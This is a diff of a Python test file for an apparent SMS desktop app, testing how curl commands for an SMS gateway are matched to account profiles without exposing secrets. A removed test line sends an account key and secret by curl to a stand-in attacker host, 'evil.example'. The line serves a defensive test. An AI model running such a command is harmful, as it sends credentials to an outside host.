@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 
 from sms_desktop.messages.drafts import OPTION_FIELDS, OTHER_FIELDS, Draft
 from sms_desktop.messages.errors import Mendable
-from sms_desktop.messages.ids import new_id
+from sms_desktop.messages.ids import ProfileId, new_id
 from sms_desktop.messages.kinds import Kind
 from sms_desktop.services.collection import (
     LARGEST,
@@ -246,11 +246,12 @@ def test_a_command_belongs_to_the_account_with_its_key() -> None:
     assert (found.profile, found.to, found.secret, found.for_profile) == (LIVE, "316", _SECRET, True)
     other = understand(f"curl https://rest.nexmo.com/sms/json -u other:{_SECRET} -d text=x", profiles)
     assert (other.profile, other.for_profile, other.secret_dropped) == (None, False, True)
-    elsewhere = understand(f"curl https://evil.example/ -u abcd1234:{_SECRET} -d text=x", profiles)
-    assert (elsewhere.profile, elsewhere.for_profile) == (LIVE, False)
+    twin = replace(LIVE, id=ProfileId("twin"), gateway_url="https://twin.example")
+    twins = understand(f"curl https://twin.example/sms/json -u abcd1234:{_SECRET} -d text=x", (LIVE, twin))
+    assert (twins.profile, twins.for_profile) == (twin, True)
     nobody = understand("curl https://rest.nexmo.com/sms/json -d text=x", profiles)
     assert (nobody.profile, nobody.for_profile, nobody.secret) == (LIVE, False, None)
-    assert _SECRET not in repr((found, other, elsewhere))
+    assert _SECRET not in repr((found, other, twins))
 
 
 def test_what_is_left_out_is_said_and_no_secret_is_in_the_draft(collection: Collection) -> None:
